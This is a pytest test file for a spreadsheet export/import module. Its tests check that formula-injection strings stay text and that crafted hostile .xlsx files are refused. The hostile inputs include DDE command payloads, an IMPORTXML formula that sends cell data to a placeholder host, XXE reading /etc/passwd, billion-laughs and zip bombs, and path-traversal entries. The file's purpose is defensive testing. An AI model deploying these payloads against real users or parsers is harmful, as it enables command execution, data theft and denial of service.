"""Workbooks: what goes out is text, what comes in is plain data or a sentence that helps."""

import io
import json
import re
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator, Mapping
from datetime import date, datetime, time
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from openpyxl.worksheet.formula import ArrayFormula

from documents.text import printable
from documents.workbook import Column, Sheet, WorkbookRefused, read, sheet_names, write, write_to

PROJECT = Path(__file__).resolve().parents[2]

HOSTILE_TEXTS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/","点这里")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
    "+1+1",
    "+cmd|' /C notepad'!'A1'",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=",
    "==1",
    "\t=1+1",
    " =1+1",
    "\n=1+1",
    "＝1+1",
    "'=1+1",
    "{=SUM(A1:A2)}",
    "%0A=1+1",
    "#N/A",
    "#REF!",
    "TRUE",
    "1e309",
    "_x000D_=1+1",
    "<script>alert(1)</script>&amp;]]>",
    "张三\u202eexe.gpj\u0000\u0007;=1+1",
]


def book_of(*texts: str) -> bytes:
    return write([Sheet("名单", [Column("内容", 40)], [(text,) for text in texts])])


# --------------------------------------------------------------------------------------------------------- writing


def test_hostile_texts_stay_text() -> None:
    assert len(set(HOSTILE_TEXTS)) == 25
    data = book_of(*HOSTILE_TEXTS)
    cells = [row[0] for row in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2)]
    assert [cell.data_type for cell in cells] == ["s"] * 25
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert not re.search(rb"<f[ />]", archive.read("xl/worksheets/sheet1.xml"))
    rows = read(data).rows[1:]
    assert [row[0].kind for row in rows] == ["text"] * 25
    assert [row[0].text for row in rows] == [printable(text) for text in HOSTILE_TEXTS]


def test_headings_titles_notes_and_stamp_are_text_too() -> None:
    data = write([Sheet("=1+1", [Column("=2+2")], [], title_row="=3+3", notes=["@SUM(1)"])], stamp="=4+4")
    cells = [row[0] for row in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows()]
    assert [(cell.value, cell.data_type) for cell in cells] == [
        ("=3+3", "s"),
        ("@SUM(1)", "s"),
        ("=4+4", "s"),
        ("=2+2", "s"),
    ]


def test_values_come_back_as_what_they_were() -> None:
    columns = [
        Column("工号"),
        Column("人数", kind="int"),
        Column("积分", kind="decimal"),
        Column("日期", kind="date"),
        Column("时间", kind="datetime"),
        Column("在岗"),
        Column("空"),
    ]
    held = datetime(2018, 7, 1, 1, 30, tzinfo=ZoneInfo("UTC"))
    values = ("00123", 7, Decimal("2.5"), date(2018, 7, 1), held, True, None)
    row = read(write([Sheet("值", columns, [values])])).rows[1]
    assert [cell.value for cell in row] == [
        "00123",
        7,
        Decimal("2.5"),
        date(2018, 7, 1),
        datetime(2018, 7, 1, 9, 30),
        "是",
    ]


def test_numbers_too_long_for_excel_are_written_as_text() -> None:
    row = read(write([Sheet("长", [Column("证件号", kind="int")], [(110105194912310021,)])])).rows[1]
    assert (row[0].kind, row[0].text) == ("text", "110105194912310021")


def test_a_text_over_the_cell_limit_is_refused_and_one_at_the_limit_is_kept() -> None:
    assert len(read(book_of("学" * 32_767)).rows[1][0].text) == 32_767
    with pytest.raises(ValueError, match="32,767"):
        book_of("学" * 32_768)
    with pytest.raises(ValueError, match="32,767"):
        book_of("𠮷" * 16_384)


@pytest.mark.parametrize("number", [float("nan"), float("inf"), Decimal("NaN")])
def test_a_number_that_is_none_is_refused(number: float | Decimal) -> None:
    with pytest.raises(ValueError, match="不是有效的数字"):
        write([Sheet("数", [Column("积分", kind="decimal")], [(number,)])])


def test_a_row_of_another_length_is_refused() -> None:
    with pytest.raises(ValueError, match="应为 1 格"):
        write([Sheet("名单", [Column("姓名")], [("张三", "多出")])])


def test_sheet_names_are_what_excel_accepts() -> None:
    names = sheet_names(["a/b:c*d?[e]\\", "学" * 40, "学" * 40, "", "History", "'党员'", "名单", "名单"])
    assert names == [
        "a b c d  e",
        "学" * 31,
        "学" * 28 + "（2）",
        "工作表",
        "History1",
        "党员",
        "名单",
        "名单（2）",
    ]


def test_a_sheet_is_ready_to_print_and_to_filter() -> None:
    rows = [(f"{n:05}", f"党员{n}") for n in range(3)]
    sheet = Sheet("花名册", [Column("工号", 12), Column("姓名", 12)], rows, title_row="党员花名册", notes=["说明"])
    ws = openpyxl.load_workbook(io.BytesIO(write([sheet], stamp="导出人：A&B"))).active
    assert ws.freeze_panes == "A5"
    assert ws.auto_filter.ref == "A4:B7"
    assert ws.print_title_rows == "$4:$4"
    assert (ws.page_setup.orientation, int(ws.page_setup.paperSize)) == ("landscape", 9)
    assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0)
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert "A&&B" in ws.oddFooter.left.text
    assert ws.column_dimensions["A"].number_format == "@"
    assert ws["A4"].font.name == "黑体"
    assert ws["A5"].font.name == "宋体"
    assert not ws.merged_cells.ranges


def test_a_wide_sheet_is_printed_on_pages_side_by_side_that_repeat_its_first_columns() -> None:
    columns = [Column("代码", 10), Column("党支部", 30), *[Column(f"要求{n}", 12) for n in range(31)]]
    sheet = Sheet("总览", columns, [["01", "教务处党支部", *["已备案"] * 31]], frozen=2)
    ws = openpyxl.load_workbook(io.BytesIO(write([sheet]))).active
    assert ws.freeze_panes == "C2"
    assert ws.print_title_cols == "$A:$B"
    assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (3, 0)


def test_a_row_is_as_high_as_its_longest_text() -> None:
    rows = [("短", "短"), ("短", "“七一”前开展“不忘初心、牢记使命”主题党建活动"), ("短", "一行\n又一行")]
    ws = openpyxl.load_workbook(io.BytesIO(write([Sheet("清单", [Column("甲", 10), Column("乙", 20)], rows)]))).active
    assert [ws.row_dimensions[n].height for n in (2, 3, 4)] == [None, 45, 30]


def test_rows_are_taken_one_at_a_time(tmp_path: Path) -> None:
    taken: list[int] = []

    def rows() -> Iterator[tuple[str, int]]:
        for number in range(300):
            taken.append(number)
            yield f"党员{number}", number

    with (tmp_path / "out.xlsx").open("wb") as file:
        assert write_to(file, [Sheet("名单", [Column("姓名"), Column("序号", kind="int")], rows())]) == 300
    assert len(taken) == 300
    assert len(read(tmp_path / "out.xlsx").rows) == 301


def test_a_failing_export_leaves_no_temporary_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    with pytest.raises(ValueError, match="不是有效的数字"):
        write([Sheet("甲", [Column("积分")], [(1,)]), Sheet("乙", [Column("积分")], [(1,), (float("nan"),)])])
    assert list(tmp_path.iterdir()) == []


# --------------------------------------------------------------------------------------------------------- reading

MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def good() -> bytes:
    return write([Sheet("名单", [Column("工号"), Column("姓名")], [("00123", "张三"), ("00124", "李四")])])


def with_parts(changes: Mapping[str, bytes | str]) -> bytes:
    """A good workbook with parts replaced or added."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good())) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in changes:
                new.writestr(name, old.read(name))
        for name, content in changes.items():
            new.writestr(name, content)
    return target.getvalue()


def with_sheet(xml: str, *, prolog: str = "") -> bytes:
    sheet = f"{prolog}<worksheet {MAIN}><sheetData>{xml}</sheetData></worksheet>"
    return with_parts({"xl/worksheets/sheet1.xml": sheet})


def text_cell(at: str, text: str) -> str:
    return f'<c r="{at}" t="inlineStr"><is><t>{text}</t></is></c>'


def zip_bomb() -> bytes:
    return with_parts({"xl/media/padding.bin": bytes(200 * 2**20)})


def sheet_bomb() -> bytes:
    return with_sheet(" " * (40 * 2**20))


def lying_size() -> bytes:
    """The central directory says 10 bytes, the part inflates to 2 MB."""
    data = bytearray(with_parts({"xl/worksheets/sheet1.xml": b"<worksheet>" + b" " * 2 * 2**20}))
    entry = data.rindex(b"xl/worksheets/sheet1.xml") - 46
    data[entry + 24 : entry + 28] = (10).to_bytes(4, "little")
    return bytes(data)


def billion_laughs() -> bytes:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    prolog = f'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY l0 "ha">{entities}]>'
    return with_sheet(f'<row r="1">{text_cell("A1", "&l9;")}</row>', prolog=prolog)


def xxe(part: str = "xl/worksheets/sheet1.xml", encoding: str = "utf-8") -> bytes:
    xml = (
        f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
        f'<worksheet {MAIN}><sheetData><row r="1">{text_cell("A1", "&f;")}</row></sheetData></worksheet>'
    )
    return with_parts({part: xml.encode(encoding)})


def padded_doctype() -> bytes:
    """A document type behind more comment than one would read ahead."""
    prolog = '<?xml version="1.0"?>' + "<!-- x -->" * 2_000 + '<!DOCTYPE x [<!ENTITY f "ha">]>'
    return with_sheet(f'<row r="1">{text_cell("A1", "&f;")}</row>', prolog=prolog)


def far_cell() -> bytes:
    return with_sheet(f'<row r="1048576">{text_cell("XFD1048576", "x")}</row>')


def wide_cell() -> bytes:
    return with_sheet(f'<row r="1">{text_cell("XFD1", "x")}</row>')


def empty_million() -> bytes:
    row = '<c s="1"/>' * 1_000
    return with_sheet(f"<row>{row}</row>" * 1_000)


def empty_wide() -> bytes:
    row = '<c s="1"/>' * 1_000
    return with_sheet(f"<row>{row}</row>" * 20)


def many_rows() -> bytes:
    return with_sheet("".join(f"<row>{text_cell(f'A{n}', f'党员{n * 7919 % 9973}')}</row>" for n in range(1, 9_000)))


def many_parts() -> bytes:
    return with_parts({f"xl/media/{n}.txt": "x" for n in range(3_000)})


def long_cell() -> bytes:
    return with_sheet(f'<row r="1">{text_cell("A1", "学" * 40_000)}</row>')


def old_xls() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4_096)


def csv_renamed() -> bytes:
    return "工号,姓名\n00123,张三\n".encode("gb18030")


def with_macros() -> bytes:
    return with_parts({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def with_hidden_macros() -> bytes:
    with zipfile.ZipFile(io.BytesIO(good())) as archive:
        types = archive.read("[Content_Types].xml").decode()
    plain = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    return with_parts(
        {"[Content_Types].xml": types.replace(plain, "application/vnd.ms-excel.sheet.macroEnabled.main+xml")}
    )


def with_external_link() -> bytes:
    return with_parts({"xl/externalLinks/externalLink1.xml": f"<externalLink {MAIN}/>"})


def with_external_relation() -> bytes:
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return with_parts(
        {
            "xl/worksheets/_rels/sheet1.xml.rels": (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f'<Relationship Id="r1" Type="{office}/image" Target="http://example.invalid/" TargetMode="External"/>'
                "</Relationships>"
            )
        }
    )


def with_object() -> bytes:
    return with_parts({"xl/embeddings/oleObject1.bin": b"x"})


def word_renamed() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
    return target.getvalue()


def binary_workbook() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.bin", "x")
    return target.getvalue()


def cut_off() -> bytes:
    return good()[:3_000]


def broken_xml() -> bytes:
    return with_sheet("<row><c></row>")


def with_password_flag() -> bytes:
    data = bytearray(good())
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def climbing_name() -> bytes:
    return with_parts({"../../evil.xml": "<x/>"})


def same_name_twice() -> bytes:
    return with_parts({"xl/Workbook.xml": "<x/>"})


def xxe_in_utf_16() -> bytes:
    return xxe(encoding="utf-16")


def xxe_in_styles() -> bytes:
    return xxe("xl/styles.xml")


def xxe_in_relations() -> bytes:
    return xxe("xl/_rels/workbook.xml.rels")


def nothing() -> bytes:
    return b""


def no_content() -> bytes:
    return with_sheet("")


HOSTILE_FILES: list[tuple[Callable[[], bytes], str]] = [
    (zip_bomb, "新建一个空白工作簿"),
    (sheet_bomb, "新建一个空白工作簿"),
    (lying_size, "已损坏"),
    (billion_laughs, "DTD"),
    (xxe, "DTD"),
    (xxe_in_utf_16, "DTD"),
    (xxe_in_styles, "DTD"),
    (xxe_in_relations, "DTD"),
    (padded_doctype, "DTD"),
    (far_cell, "超过 5,000 行"),
    (wide_cell, "最多 60 列"),
    (empty_million, "空白"),
    (empty_wide, "最多 60 列"),
    (many_rows, "超过 5,000 行"),
    (many_parts, "3,00"),
    (long_cell, "32,767"),
    (old_xls, r"另存为.*\.xlsx"),
    (csv_renamed, r"另存为.*\.xlsx"),
    (with_macros, "宏"),
    (with_hidden_macros, "宏"),
    (with_external_link, "断开链接"),
    (with_external_relation, "断开链接"),
    (with_object, "嵌入"),
    (word_renamed, "Word"),
    (binary_workbook, r"\.xlsb"),
    (cut_off, "已损坏"),
    (broken_xml, "已损坏"),
    (with_password_flag, "密码"),
    (climbing_name, "结构异常"),
    (same_name_twice, "结构异常"),
    (nothing, "空的"),
    (no_content, "没有内容"),
]


# Measured in a fresh process: processor seconds of reader and child together, and the larger of their resident sets.
MEASURE = """
import json, resource, sys
sys.path.insert(0, sys.argv[1])
from documents.workbook import WorkbookRefused, read
try:
    read(sys.argv[2])
    said = ""
except WorkbookRefused as refusal:
    said = str(refusal)
child = resource.getrusage(resource.RUSAGE_CHILDREN)
# ru_maxrss of this process begins with that of the tests it was started by; VmHWM begins anew.
peak = next(int(line.split()[1]) for line in open("/proc/self/status") if line.startswith("VmHWM"))
print(json.dumps([said, max(peak, child.ru_maxrss) / 1024]))
"""


@pytest.mark.parametrize(("build", "says"), HOSTILE_FILES, ids=[build.__name__ for build, _ in HOSTILE_FILES])
def test_a_hostile_workbook_is_refused_in_a_sentence_within_150_megabytes(
    build: Callable[[], bytes], says: str, tmp_path: Path
) -> None:
    path = tmp_path / "upload.xlsx"
    path.write_bytes(build())
    done = subprocess.run(
        [sys.executable, "-c", MEASURE, str(PROJECT), str(path)], capture_output=True, check=True, timeout=300
    )
    said, megabytes = json.loads(done.stdout)
    assert re.search(says, said)
    assert "\n" not in said
    assert megabytes < 150


def test_a_file_over_the_size_limit_is_refused_before_it_is_opened() -> None:
    with pytest.raises(WorkbookRefused, match="超过 1 MB"):
        read(b"PK\x03\x04" + bytes(2**20), max_bytes=2**20)


def test_a_reader_that_takes_too_long_is_stopped() -> None:
    with pytest.raises(WorkbookRefused, match="限定的时间"):
        read(good(), timeout=0.001)


def test_a_sheet_too_big_for_the_memory_is_refused() -> None:
    strings = "".join(f"<si><t>{n}</t></si>" for n in range(900_000))
    with pytest.raises(WorkbookRefused, match="内存"):
        read(with_parts({"xl/sharedStrings.xml": f"<sst {MAIN}>{strings}</sst>"} | shared_strings_declared()))


def shared_strings_declared() -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(good())) as archive:
        types = archive.read("[Content_Types].xml").decode()
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    override = f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kind}"/></Types>'
    return {"[Content_Types].xml": types.replace("</Types>", override)}


def test_a_full_roster_is_read_whole() -> None:
    columns = [Column(f"栏目{n}") for n in range(12)]
    data = write([Sheet("花名册", columns, ([f"第{r}行第{c}列" for c in range(12)] for r in range(4_999)))])
    result = read(data)
    assert len(result.rows) == 5_000
    assert result.rows[4_999][11].text == "第4998行第11列"


def test_formulas_are_reported_and_never_their_cached_value() -> None:
    xml = (
        '<row r="1">'
        '<c r="A1" t="str"><f>HYPERLINK("http://example.invalid/","点")</f><v>缓存</v></c>'
        '<c r="B1"><f>1+1</f><v>2</v></c>'
        '<c r="C1"><f t="array" ref="C1">SUM(A1:A2)</f><v>2</v></c>'
        '<c r="D1"><f t="shared" si="9"/><v>7</v></c>'
        "</row>"
    )
    row = read(with_sheet(xml)).rows[0]
    assert [cell.kind for cell in row] == ["formula"] * 4
    assert [cell.value for cell in row] == [None] * 4
    assert [cell.text for cell in row][1:] == ["=1+1", "=SUM(A1:A2)", "="]


def test_array_formulas_written_by_others_are_formulas() -> None:
    book = openpyxl.Workbook()
    book.active["A1"] = ArrayFormula("A1:A2", "=SUM(B1:B2)")
    buffer = io.BytesIO()
    book.save(buffer)
    assert read(buffer).rows[0][0].kind == "formula"


def test_long_numbers_are_known_to_have_lost_their_digits() -> None:
    xml = (
        '<row r="1"><c r="A1"><v>110105194912310000</v></c><c r="B1"><v>1.10105194912310E+17</v></c>'
        '<c r="C1"><v>20180001</v></c></row>'
    )
    row = read(with_sheet(xml)).rows[0]
    assert [(cell.kind, cell.lost_digits) for cell in row] == [("int", True), ("decimal", True), ("int", False)]


def test_a_number_beyond_all_numbers_is_an_error() -> None:
    assert read(with_sheet('<row r="1"><c r="A1"><v>1e309</v></c></row>')).rows[0][0].kind == "error"


def test_a_number_excel_cannot_write_makes_a_damaged_file() -> None:
    with pytest.raises(WorkbookRefused, match="已损坏"):
        read(with_sheet('<row r="1"><c r="A1"><v>NaN</v></c></row>'))


def test_what_a_sheet_says_about_its_size_is_not_believed() -> None:
    xml = f'<worksheet {MAIN}><dimension ref="A1:A1"/><sheetData><row r="1">{text_cell("A1", "甲")}</row>'
    xml += f'<row r="3">{text_cell("A3", "乙")}{text_cell("C3", "丙")}</row></sheetData></worksheet>'
    rows = read(with_parts({"xl/worksheets/sheet1.xml": xml})).rows
    assert [[cell.text for cell in row] for row in rows] == [["甲"], [], ["乙", "", "丙"]]


def test_a_vast_merged_range_costs_nothing() -> None:
    xml = f'<worksheet {MAIN}><sheetData><row r="1">{text_cell("A1", "甲")}</row></sheetData>'
    xml += '<mergeCells count="1"><mergeCell ref="A5:ZZ2000"/></mergeCells></worksheet>'
    assert [[cell.text for cell in row] for row in read(with_parts({"xl/worksheets/sheet1.xml": xml})).rows] == [["甲"]]


def test_dates_are_read_in_both_calendars() -> None:
    for epoch in (openpyxl.utils.datetime.WINDOWS_EPOCH, openpyxl.utils.datetime.MAC_EPOCH):
        book = openpyxl.Workbook()
        book.epoch = epoch
        book.active.append([date(2018, 7, 1), datetime(2018, 7, 1, 9, 30), time(9, 30)])
        buffer = io.BytesIO()
        book.save(buffer)
        row = read(buffer).rows[0]
        assert [cell.value for cell in row] == [date(2018, 7, 1), datetime(2018, 7, 1, 9, 30), time(9, 30)]


def test_headings_are_found_by_name_however_they_were_typed() -> None:
    columns = [Column("\u200b 姓名 "), Column("工　号"), Column("ＩＤ")]
    result = read(write([Sheet("名单", columns, [("张三", "1", "2")], title_row="党员花名册")]))
    assert result.find_header(["姓名", "ID"]) == (1, {"姓名": 0, "工 号": 1, "ID": 2})
    assert result.find_header(["姓名", "支部"]) is None


def test_a_heading_that_stands_twice_is_not_guessed() -> None:
    assert read(write([Sheet("名单", [Column("工号"), Column("工号")], [])])).find_header(["工号"]) is None


def test_other_sheets_with_content_are_named_and_hidden_ones_are_told() -> None:
    book = openpyxl.Workbook()
    book.active.title = "空表"
    hidden = book.create_sheet("名单")
    hidden.append(["姓名"])
    hidden.sheet_state = "hidden"
    book.create_sheet("附表").append(["更多"])
    book.create_sheet("也空")
    buffer = io.BytesIO()
    book.save(buffer)
    result = read(buffer)
    assert (result.sheet, result.hidden, result.other_sheets) == ("名单", True, ["附表"])


def test_carriage_returns_as_excel_writes_them_are_read_as_such() -> None:
    assert read(with_sheet(f'<row r="1">{text_cell("A1", "甲_x000D_乙")}</row>')).rows[0][0].text == "甲\r乙"
